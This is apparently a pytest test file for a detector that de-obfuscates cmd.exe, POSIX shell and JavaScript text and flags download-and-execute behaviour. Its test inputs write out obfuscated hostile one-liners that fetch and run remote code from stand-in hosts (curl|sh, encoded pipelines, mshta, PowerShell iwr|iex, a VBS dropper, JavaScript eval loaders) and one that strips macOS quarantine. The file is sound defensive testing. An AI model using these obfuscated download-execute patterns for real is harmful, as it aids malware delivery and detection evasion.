"""cmd.exe, POSIX shells and JavaScript read as their interpreters read them."""

from __future__ import annotations

import base64

import pytest

from app.detection.interpret import READERS, Behaviour, Interpretation
from app.detection.interpret import interpret as _interpret
from app.detection.interpret.budget import Budget
from app.detection.interpret.facts import Facts
from app.detection.interpret.posix import interpret_posix


def interpret(text: str) -> Interpretation:
    """Every interpreter, whatever the markers say, with a generous budget: these tests are
    about what is read, not about which texts are worth reading or how fast."""
    return _interpret(text, Budget(ms=5000, strict=True), readers=list(READERS))


def reading(text: str) -> str:
    return "\n".join(interpret(text).layers)


def invoked(text: str) -> list[str]:
    return [i.name for i in interpret(text).facts.invocations]


# -- cmd.exe -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("c^u^r^l -o x.exe https://a.test/x", "curl -o x.exe https://a.test/x"),
        ('p^o^w^e^r^s^h^e^l^l -c "irm a.test"', 'powershell -c "irm a.test"'),
        ("%comspec:~-7,3% /c whoami", "cmd /c whoami"),
        ("%windir:~3,1%%windir:~1,1% x", "W: x"),
        ("%comspec:cmd.exe=mshta.exe% https://a.test/p.hta", "mshta.exe https://a.test/p.hta"),
        ('cmd /c "set a=mshta&& call %a% https://a.test/h.hta"', "mshta https://a.test/h.hta"),
        ('cmd /v:on /c "set x=cur&& set y=l&& !x!!y! https://a.test"', "curl https://a.test"),
        ('cmd /v:on /c "set /a n=6*7+0 && echo !n!"', "echo 42"),
        ('start "" /min mshta https://a.test/x.hta', "mshta https://a.test/x.hta"),
    ],
)
def test_cmd_expansion(text: str, expected: str) -> None:
    assert expected in reading(text)


def test_cmd_download_then_start_is_downloads_and_runs() -> None:
    result = interpret('c^url -o %TEMP%\\u.exe https://a.test/u & start "" %TEMP%\\u.exe')
    assert Behaviour.RUNS_DOWNLOADED in result.behaviours


def test_cmd_for_loop_running_fetched_text_is_downloads_and_runs() -> None:
    result = interpret("for /f \"tokens=*\" %i in ('curl -s https://a.test/c') do %i")
    assert Behaviour.RUNS_DOWNLOADED in result.behaviours


def test_vbs_written_with_echo_then_run_is_read_as_a_script() -> None:
    text = (
        'echo Set h=CreateObject("MSXML2.XMLHTTP"):h.Open "GET","https://a.test/p",0:h.Send > %TEMP%\\d.vbs'
        ' & echo CreateObject("WScript.Shell").Run "cmd /c p.exe" >> %TEMP%\\d.vbs & cscript //nologo %TEMP%\\d.vbs'
    )
    result = interpret(text)
    assert any('CreateObject("WScript.Shell").Run' in layer for layer in result.layers)
    assert Behaviour.DOWNLOADS in result.behaviours and Behaviour.RUNS_CODE in result.behaviours


# -- POSIX shells ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('c""url -fsSL https://a.test/i | sh', "curl -fsSL https://a.test/i | sh"),
        ("c\\url https://a.test | ba\\sh", "curl https://a.test | bash"),
        ("$'\\x63\\x75\\x72\\x6c' https://a.test", "curl https://a.test"),
        ("a=cu;b=rl;$a$b https://a.test", "curl https://a.test"),
        ("v=xcurlx; ${v:1:4} https://a.test", "curl https://a.test"),
        ("v=cXrl; ${v//X/u} https://a.test", "curl https://a.test"),
        ("${PATH:0:1}bin${PATH:0:1}sh -c id", "/bin/sh -c id"),
    ],
)
def test_posix_expansion(text: str, expected: str) -> None:
    assert expected in reading(text)


@pytest.mark.parametrize(
    "text",
    [
        'sh -c "$(curl -fsSL https://a.test/install.sh)" "" --unattended',
        "dscl . -authonly me pw && curl -fsSL 'https://a.test/p' -o /tmp/p && chmod +x /tmp/p",
        'cmd /c start "" /min cmd /c "copy %windir%\\system32\\finger.exe %temp%\\ct.exe"',
    ],
)
def test_quoted_strings_with_nothing_to_expand_give_no_shell_layer(text: str) -> None:
    """The same words quoted another way are no reading: such a layer only cost the rules and
    decoders a second pass over the text."""
    assert interpret_posix(text, Facts(), Budget(ms=1000, strict=True)) == text


def test_a_quoted_string_with_something_to_expand_is_still_written_out() -> None:
    assert "echo 'hi https://a.test/x'" in reading('u=a.test; echo "hi https://$u/x"')
    assert "curl https://a.test" in reading('c"u"rl https://a.test')


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://a.test/i.sh | sh",
        'sh -c "$(curl -fsSL https://a.test/i.sh)"',
        "bash <(wget -qO- https://a.test/i.sh)",
        "wget -qO- https://a.test/i.sh | sudo bash",
        f"echo {base64.b64encode(b'curl -s https://a.test/i.sh | bash').decode()} | base64 -d | sh",
        f"echo {'curl -s https://a.test/i.sh | sh'[::-1].encode().hex()} | xxd -r -p | rev | sh",
        "a=cu;b=rl; $a$b -s https://a.test/i.sh | python3",
    ],
)
def test_posix_download_into_a_shell_is_downloads_and_runs(text: str) -> None:
    assert Behaviour.RUNS_DOWNLOADED in interpret(text).behaviours, reading(text)


@pytest.mark.parametrize("before", ["a#b; ", "{a#x; ", "{\u0100#x; ", "x=$HOME#y; ", "a#b\n"])
def test_a_hash_inside_a_word_does_not_hide_the_rest_of_the_line(before: str) -> None:
    # bash starts a comment only at the start of a word; the grammar's error recovery read
    # "#b; a=cu;b=rl; ..." as one, and the command after it went unread (the verdict: clean)
    text = before + "a=cu;b=rl; $a$b -s https://a.test/i.sh | sh"
    assert Behaviour.RUNS_DOWNLOADED in interpret(text).behaviours, reading(text)


def test_a_hash_after_a_blank_still_starts_a_comment() -> None:
    result = interpret("a=cu;b=rl; $a$b -s https://a.test/i.sh # | sh")
    assert Behaviour.DOWNLOADS in result.behaviours
    assert Behaviour.RUNS_DOWNLOADED not in result.behaviours


def test_decoded_pipeline_payload_becomes_a_layer() -> None:
    payload = "curl -s https://a.test/p | bash"
    text = f"echo {base64.b64encode(payload.encode()).decode()} | base64 --decode | bash"
    assert payload in interpret(text).layers


def test_quarantine_removal_weakens_protection() -> None:
    text = 'x=xatt; ${x}r -d com.apple.quarantine "$HOME/Downloads/App.app"'
    result = interpret(text)
    assert "xattr" in invoked(text)
    assert Behaviour.WEAKENS_PROTECTION in result.behaviours


@pytest.mark.parametrize(
    "text",
    [
        'export PATH="$HOME/.local/bin:$PATH"',
        'for f in *.log; do gzip "$f"; done',
        'name="world"; echo "hello $name"',
        "git log --oneline | head -20",
        'if [ -f "$HOME/.bashrc" ]; then . "$HOME/.bashrc"; fi',
        "find . -name '*.pyc' -delete",
    ],
)
def test_ordinary_shell_lines_have_no_behaviour_of_concern(text: str) -> None:
    result = interpret(text)
    assert not {Behaviour.RUNS_DOWNLOADED, Behaviour.HIDDEN_COMMAND} & set(result.behaviours)


# -- JavaScript --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("eval(atob('YWxlcnQoMSk='))", "alert(1)"),
        ("eval(String.fromCharCode(97,108,101,114,116,40,49,41))", "alert(1)"),
        ("window['ev'+'al']('alert(2)')", "alert(2)"),
        ("this['\\x65\\x76\\x61\\x6c']('alert(3)')", "alert(3)"),
        ("eval(unescape('%61%6c%65%72%74(4)'))", "alert(4)"),
        ("eval(')5(trela'.split('').reverse().join(''))", "alert(5)"),
        ("new Function('al'+'ert(6)')()", "alert(6)"),
        ("setTimeout('alert' + '(7)', 10)", "alert(7)"),
        ("junk junk javascript:eval(atob('YWxlcnQoOCk='))", "alert(8)"),
        ("const p = ['ev', 'al'].join(''); window[p]('alert(9)')", "alert(9)"),
    ],
)
def test_javascript_code_that_runs_code_is_read(text: str, expected: str) -> None:
    assert expected in reading(text)


@pytest.mark.parametrize(
    "text",
    [
        "fetch('https://a.te'+'st/x.js').then(r => r.text()).then(eval)",
        "fetch(atob('aHR0cHM6Ly9hLnRlc3QveC5qcw==')).then(r => r.text()).then(t => eval(t))",
        "$['getSc'+'ript']('https://a.test/x.js')",
        "var s = document.createElement('script'); s.src = 'https://a.te' + 'st/x.js'; document.head.appendChild(s)",
        # top-level await in a console; Function of the fetched text
        "Function(await (await fetch('https://a.te'+'st/x.js')).text())()",
        "new Function(await (await fetch(['//a', 'test/x.js'].join('.'))).text())()",
        # an XMLHttpRequest's text run synchronously or from its onload
        "var x=new XMLHttpRequest();x.open('GET','https://a.te'+'st/x.js',false);x.send();eval(x.responseText)",
        "var x=new XMLHttpRequest();x.onload=function(){eval(this.responseText)};x.open('GET','https://a.te'+'st/x');x.send()",
    ],
)
def test_javascript_hidden_remote_script_is_a_behaviour(text: str) -> None:
    assert Behaviour.LOADS_HIDDEN_SCRIPT in interpret(text).behaviours, reading(text)


@pytest.mark.parametrize(
    "text",
    [
        "const total = items.map(i => i.price).reduce((a, b) => a + b, 0);",
        "document.querySelectorAll('a').forEach(a => console.log(a.href))",
        "fetch('/api/users').then(r => r.json()).then(data => render(data))",
        "const name = ['Ada', 'Lovelace'].join(' '); console.log(`Hello ${name}`)",
    ],
)
def test_ordinary_javascript_has_no_behaviour_of_concern(text: str) -> None:
    result = interpret(text)
    assert not {
        Behaviour.LOADS_HIDDEN_SCRIPT,
        Behaviour.RUNS_DOWNLOADED,
        Behaviour.HIDDEN_COMMAND,
    } & set(result.behaviours)


@pytest.mark.parametrize(
    ("text", "code"),
    [
        # 2n backslashes before a quote are n and the quote ends the group: the rest is code
        ('powershell -c "echo ok\\\\" ; iwr https://cdn.x.test/a | iex "', "echo ok\\ ; iwr"),
        ('powershell -c "echo \\"hi\\"; iwr https://cdn.x.test/b | iex"', 'echo "hi"; iwr'),
        ('powershell -c "iwr https://cdn.x.test/c | iex"', "iwr https://cdn.x.test/c | iex"),
    ],
)
def test_a_whole_quoted_command_is_the_code_windows_hands_powershell(text: str, code: str) -> None:
    first = interpret(text).layers[0]
    assert first.startswith(code), first
    assert "https://cdn.x.test/" in "".join(interpret(text).behaviours[Behaviour.RUNS_DOWNLOADED])
